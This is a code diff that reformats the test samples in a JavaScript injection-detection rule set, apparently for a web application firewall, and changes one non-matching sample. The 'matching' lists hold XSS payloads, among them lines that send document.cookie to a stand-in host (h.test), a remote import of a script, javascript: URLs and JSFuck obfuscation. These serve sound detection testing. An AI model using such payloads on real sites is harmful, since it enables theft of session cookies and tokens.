@@ -6,8 +6,13 @@ export const javascriptSigns = {
     severity: 'critical',
     paranoia: 1,
     samples: {
-      matching: ["';alert(1)//", '"-prompt(1)-"', "x'),eval(name)//", '});fetch("//h.test/"+document.cookie)//'],
-      other: ["it's; alert(1)", "print('a'); alert('b')", "'-\"8 track\" player", '"a" + "b"'],
+      matching: [
+        "';alert(1)//",
+        '"-prompt(1)-"',
+        "x'),eval(name)//",
+        '});fetch("//h.test/"+document.cookie)//',
+      ],
+      other: ["it's; alert(1)", "print('a'); alert('b')", '\'-"8 track" player', '"a" + "b"'],
     },
   },
   'javascript-url': {
@@ -15,8 +20,18 @@ export const javascriptSigns = {
     severity: 'critical',
     paranoia: 1,
     samples: {
-      matching: ['javascript:alert(1)', ' java\tscript:run()', 'feed:javascript:eval(name)', 'vbscript:MsgBox 1'],
-      other: ['javascript:;', 'javascript:void(0)', 'JavaScript: the good parts', 'https://a.test/javascript:alert(1)'],
+      matching: [
+        'javascript:alert(1)',
+        ' java\tscript:run()',
+        'feed:javascript:eval(name)',
+        'vbscript:MsgBox 1',
+      ],
+      other: [
+        'javascript:;',
+        'javascript:void(0)',
+        'JavaScript: the good parts',
+        'https://a.test/javascript:alert(1)',
+      ],
     },
   },
   'javascript-dialog': {
@@ -24,7 +39,12 @@ export const javascriptSigns = {
     severity: 'error',
     paranoia: 1,
     samples: {
-      matching: ["'-alert(1)-'", '<script>confirm(1)</script>', '<svg onload=prompt(1)>', 'window.alert(1)'],
+      matching: [
+        "'-alert(1)-'",
+        '<script>confirm(1)</script>',
+        '<svg onload=prompt(1)>',
+        'window.alert(1)',
+      ],
       other: ['1alert(1)', 'alert', 'an alert for you', '<b title="alert">'],
     },
   },
@@ -33,7 +53,11 @@ export const javascriptSigns = {
     severity: 'critical',
     paranoia: 1,
     samples: {
-      matching: ['";eval(name)//', '<svg onload=setTimeout("run()")>', "'-import('//h.test/x.js')-'"],
+      matching: [
+        '";eval(name)//',
+        '<svg onload=setTimeout("run()")>',
+        "'-import('//h.test/x.js')-'",
+      ],
       other: ['evaluation', 'medieval', 'an import from France', 'setTimeout'],
     },
   },
@@ -70,7 +94,10 @@ export const javascriptSigns = {
     severity: 'critical',
     paranoia: 1,
     samples: {
-      matching: ['(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]'],
+      matching: [
+        '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]',
+        '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]',
+      ],
       other: ['[[],[]]', 'a[]=1&b[]=2', '![alt](image.png)', '[+] more'],
     },
   },
@@ -88,7 +115,11 @@ export const javascriptSigns = {
     severity: 'critical',
     paranoia: 1,
     samples: {
-      matching: ["fetch('//h.test/?'+document.cookie)", "'-alert(document.domain)-'", 'x(localStorage.token)'],
+      matching: [
+        "fetch('//h.test/?'+document.cookie)",
+        "'-alert(document.domain)-'",
+        'x(localStorage.token)',
+      ],
       other: ['document cookies', 'a documented domain', 'local storage'],
     },
   },
@@ -112,7 +143,7 @@ export const javascriptSigns = {
         "';document.body.innerHTML=name//",
         "location='javascript:run()'",
       ],
-      other: ['location: Paris', 'locations=3', 'href=/a', 'write(me'],
+      other: ['location: Paris', 'locations=3', 'href=/a', 'writer'],
     },
   },
   'javascript-unusual-call': {
